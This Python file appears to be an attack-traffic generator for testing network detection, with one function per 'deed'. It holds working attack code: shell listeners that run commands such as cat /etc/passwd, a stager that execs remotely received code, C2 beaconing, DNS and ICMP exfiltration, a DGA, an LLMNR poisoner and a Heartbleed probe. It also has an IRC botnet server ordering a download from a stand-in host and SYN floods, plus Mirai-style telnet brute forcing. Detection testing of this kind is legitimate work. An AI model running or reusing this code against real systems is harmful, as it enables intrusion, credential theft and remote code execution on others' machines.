"""agent.py DEED ARGUMENTS…: small intruders for which there is no package, or whose package does more than a test
should, and the far ends they need. Each function is a deed."""
import base64
import json
import os
import random
import socket
import ssl
import struct
import sys
import time
import urllib.request

COMMANDS = [b"id\n", b"uname -a\n", b"ls -la /etc | head -20\n", b"cat /etc/passwd | head -5\n", b"ps aux | head -8\n", b"ip addr\n", b"pwd\n", b"exit\n"]


def listen(address, port):
    return socket.create_server((address, int(port)))


def operate(c):
    c.settimeout(1)
    for command in COMMANDS:
        time.sleep(random.uniform(.5, 2.5))
        c.sendall(command)
        try:
            while c.recv(65536):
                pass
        except (TimeoutError, ssl.SSLError):
            pass
    c.close()


def handler(address, port):
    operate(listen(address, port).accept()[0])


def handler_tls(address, port, folder):
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(os.path.join(folder, "own.pem"), os.path.join(folder, "own.key"))
    operate(tls.wrap_socket(listen(address, port).accept()[0], server_side=True))


def operator(address, port):
    operate(socket.create_connection((address, int(port))))


def beacon(url, count, period, jitter):
    """Asks for a task; after one in nine, sends a result."""
    tls = ssl._create_unverified_context()
    name = os.urandom(4).hex()
    for n in range(int(count)):
        body = base64.b64encode(os.urandom(700)) if n % 9 == 8 else None
        ask = urllib.request.Request(f"{url}?id={name}&n={n}", data=body, headers={"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"})
        try:
            urllib.request.urlopen(ask, timeout=5, **({"context": tls} if url.startswith("https") else {})).read()
        except OSError:
            pass
        time.sleep(float(period) * (1 + random.uniform(-1, 1) * float(jitter)))


def question(name, kind=1):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask(name, kind=1, server="10.66.0.1", port=53, wait=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(wait)
    s.sendto(question(name, kind), (server, port))
    try:
        return s.recv(4096)
    except OSError:
        return b""


def dnsleak(zone, count, pause):
    for n in range(int(count)):
        ask(f"{n:04x}{os.urandom(26).hex()}.{os.urandom(20).hex()}.{zone}", random.choice([1, 1, 16]))
        time.sleep(float(pause))


def dga(count):
    for _ in range(int(count)):
        ask("".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(random.randint(11, 19))) + random.choice([".com", ".net", ".info", ".biz"]))
        time.sleep(.15)


def llmnr(name):
    ask(name, server="224.0.0.252", port=5355, wait=2)


def poison(interface):
    """Answers every LLMNR question with its own address (RFC 4795)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", 5355))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + socket.inet_aton("10.66.0.66"))
    s.settimeout(20)
    while True:
        q, peer = s.recvfrom(2048)
        s.sendto(q[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + q[12:] + q[12:] + struct.pack(">IH", 30, 4) + socket.inet_aton("10.66.0.66"), peer)


def pool(address, port):
    c = listen(address, port).accept()[0]
    f = c.makefile("rwb")
    for line in f:
        n = int(line.split(b'"id":')[1].split(b",")[0]) if b'"id":' in line else 0
        kind = b"login" if b'"login"' in line else b"submit"
        f.write(b'{"id":%d,"jsonrpc":"2.0","error":null,"result":%s}\n' % (n, b'{"id":"a1","job":{"blob":"%s","job_id":"7","target":"b88d0600"},"status":"OK"}' % (b"07" * 76) if kind == b"login" else b'{"status":"OK"}'))
        f.flush()


def miner_bitcoin(address, port):
    """Stratum as for Bitcoin, without a word of JSON-RPC's version."""
    f = socket.create_connection((address, int(port))).makefile("rwb")
    for n, (method, words) in enumerate([("mining.subscribe", ["cpuminer/2.5.1"]), ("mining.authorize", ["1BoatSLRHtKNngkdXEeobR76b53LETtpyT.w1", "x"])] + [("mining.submit", ["w1", "7", "00000001", "504e86ed", os.urandom(4).hex()])] * 6):
        f.write(json.dumps({"id": n, "method": method, "params": words}).encode() + b"\n")
        f.flush()
        f.readline()
        time.sleep(2)


def miner(address, port):
    f = socket.create_connection((address, int(port))).makefile("rwb")
    f.write(b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4%s","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}}\n' % (b"8" * 94))
    f.flush()
    f.readline()
    for n in range(2, 8):
        time.sleep(2)
        f.write(b'{"id":%d,"jsonrpc":"2.0","method":"submit","params":{"id":"a1","job_id":"7","nonce":"%08x","result":"%s"}}\n' % (n, n, os.urandom(32).hex().encode()))
        f.flush()
        f.readline()


def stage(address, port):
    """Sends a program with its size before it, as stagers take it, then asks for things in pieces of type, size, value."""
    c = listen(address, port).accept()[0]
    program = b"while True:\n k,n=struct.unpack('>II',s.recv(8));q=s.recv(n)\n r=subprocess.run(q,shell=True,capture_output=True).stdout\n s.sendall(struct.pack('>II',k,len(r))+r)\n".ljust(20000)
    c.sendall(struct.pack(">I", len(program)) + program)
    c.settimeout(2)
    for n, command in enumerate(COMMANDS[:-1] * 2):
        time.sleep(random.uniform(.5, 3))
        c.sendall(struct.pack(">II", n, len(command)) + command)
        try:
            while c.recv(65536):
                pass
        except TimeoutError:
            pass
    c.close()


def stager(address, port):
    s = socket.create_connection((address, int(port)))
    size, program = struct.unpack(">I", s.recv(4))[0], b""
    while len(program) < size:
        program += s.recv(size - len(program))
    import subprocess
    exec(program, {"s": s, "struct": struct, "subprocess": subprocess})


def dnspull(zone, count):
    """Fetches a file piece by piece in answers of TXT."""
    for n in range(int(count)):
        ask(f"{n}.f.{zone}", 16)
        time.sleep(.1)


def vrfy(address, count):
    f = socket.create_connection((address, 25)).makefile("rwb")
    f.readline()
    for line in [b"HELO x"] + [b"VRFY user%d" % n for n in range(int(count))] + [b"QUIT"]:
        f.write(line + b"\r\n")
        f.flush()
        f.readline()


def exe(path):
    """A program for Windows as far as its first bytes go: MZ, PE, 300 kB."""
    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 0x80) + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$".ljust(64, b"\0")
    with open(path, "wb") as f:
        f.write(head + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 3, 0x66000000, 0, 0, 240, 0x22) + struct.pack("<H", 0x20b) + os.urandom(300000))


def heartbleed(address, port):
    """A hello that offers heartbeats, and one that says it is longer than it is (CVE-2014-0160), whatever the answer."""
    c = socket.create_connection((address, int(port)))
    c.settimeout(3)
    suites = bytes.fromhex("c02fc030c013c014009c009d002f0035000a00ff")
    more = bytes.fromhex("000b000403000102000a000a0008001700180019000d000a00080401050106010201" "000f000101")
    hello = b"\x03\x03" + os.urandom(32) + b"\0" + struct.pack(">H", len(suites)) + suites + b"\1\0" + struct.pack(">H", len(more)) + more
    shake = b"\1" + struct.pack(">I", len(hello))[1:] + hello
    c.sendall(b"\x16\x03\x01" + struct.pack(">H", len(shake)) + shake)
    try:
        c.recv(8192)
        for _ in range(3):
            c.sendall(b"\x18\x03\x03\0\x03\x01\x40\x00")
            time.sleep(.3)
        c.recv(8192)
    except OSError:
        pass


def tftp(address, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"\0\1" + name.encode() + b"\0octet\0", (address, 69))
    while True:
        m, peer = s.recvfrom(1024)
        s.sendto(b"\0\4" + m[2:4], peer)
        if len(m) < 516:
            return


def pingleak(address, count):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    for n in range(int(count)):
        body = struct.pack(">BBHHH", 8, 0, 0, 77, n) + os.urandom(900)
        total = sum(struct.unpack(f">{len(body) // 2}H", body))
        total = (total >> 16) + (total & 0xFFFF)
        total += total >> 16
        s.sendto(body[:2] + struct.pack(">H", ~total & 0xFFFF) + body[4:], (address, 0))
        time.sleep(.2)


def ircd(address, port):
    c = listen(address, port).accept()[0]
    f = c.makefile("rwb")
    for line in f:
        word = line.split()[0]
        if word == b"USER":
            f.write(b":irc.example 001 bot :Welcome\r\n:irc.example 376 bot :End of MOTD\r\n")
        if word == b"JOIN":
            f.write(b":bot!x@y JOIN #w\r\n:irc.example 332 bot #w :.advscan lsass 200 5 0 -r\r\n")
            for order in (b".sysinfo", b".download http://203.0.113.15/u.exe c:\\u.exe 1", b".ddos.syn 203.0.113.10 80 60"):
                f.write(b":boss!x@y PRIVMSG #w :" + order + b"\r\n")
        f.flush()


def ircbot(address, port):
    f = socket.create_connection((address, int(port))).makefile("rwb")
    f.write(b"PASS letmein\r\nNICK [NLD|XP]4711823\r\nUSER nyzqfk 0 0 :nyzqfk\r\n")
    f.flush()
    f.readline(), f.readline()
    f.write(b"JOIN #w key\r\n")
    f.flush()
    for n in range(5):
        f.readline()
        f.write(b"PRIVMSG #w :[SCAN]: Random Port Scan started on 10.66.x.x:445 with a delay of 5 seconds\r\n")
        f.flush()
        time.sleep(.5)


def sipd(address):
    """An exchange that knows a few extensions."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((address, 5060))
    s.settimeout(90)
    while True:
        m, peer = s.recvfrom(4096)
        lines = m.decode("latin1").split("\r\n")
        keep = [x for x in lines if x.lower().split(":")[0] in ("via", "from", "to", "call-id", "cseq")]
        user = lines[0].split("sip:")[-1].split("@")[0]
        to = [x for x in lines if x.lower().startswith("to:")][0]
        code = "401 Unauthorized" if any(k in to for k in ("110@", "120@")) else "404 Not Found"
        s.sendto(("SIP/2.0 " + code + "\r\n" + "\r\n".join(keep) + "\r\nServer: PBX\r\nWWW-Authenticate: Digest realm=\"pbx\", nonce=\"a\"\r\nContent-Length: 0\r\n\r\n").encode("latin1"), peer)


def smtpd(address, port):
    """Takes mail and drops it."""
    listener = listen(address, port)
    while True:
        f = listener.accept()[0].makefile("rwb")
        f.write(b"220 drop ESMTP\r\n")
        f.flush()
        data = False
        for line in f:
            if data:
                if line != b".\r\n":
                    continue
                data = False
            word = line.strip().upper()
            data = word == b"DATA" or data
            f.write(b"354 go on\r\n" if word == b"DATA" else b"221 bye\r\n" if word == b"QUIT" else b"250-drop\r\n250 SIZE 50000000\r\n" if word.startswith(b"EHLO") else b"250 ok\r\n")
            f.flush()


def telnet(address):
    """The first words of a worm's dictionary, three to a connection."""
    pairs = [("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"), ("root", "default"), ("support", "support"), ("root", "54321"), ("user", "user")] * 3
    while pairs:
        c = socket.create_connection((address, 23))
        c.settimeout(4)
        for user, word in [pairs.pop() for _ in range(3)]:
            for line in (user, word):
                try:
                    m = c.recv(2048)
                    for i in range(len(m) - 2):
                        if m[i] == 255 and m[i + 1] in (251, 253):
                            c.sendall(bytes([255, {251: 254, 253: 252}[m[i + 1]], m[i + 2]]))
                    time.sleep(.4)
                    c.sendall(line.encode() + b"\r\n")
                    time.sleep(.3)
                except OSError:
                    break
        c.close()


def ssh(address, user, word):
    """One login with OpenSSH's client."""
    import subprocess
    asker = f"/tmp/bt-ask-{os.getpid()}"
    env = {**os.environ, "SSH_ASKPASS": asker, "SSH_ASKPASS_REQUIRE": "force", "DISPLAY": ":0"}
    with open(asker, "w") as f:
        f.write(f"#!/bin/sh\necho {word}\n")
    os.chmod(asker, 0o700)
    subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1", f"{user}@{address}", "true"],
                   env=env, stdin=subprocess.DEVNULL, start_new_session=True)
    os.remove(asker)


if __name__ == "__main__":
    deed = sys.argv[1].replace("-", "_")
    if deed in globals():
        globals()[deed](*sys.argv[2:])
    else:
        import agent_windows
        getattr(agent_windows, deed)(*sys.argv[2:])
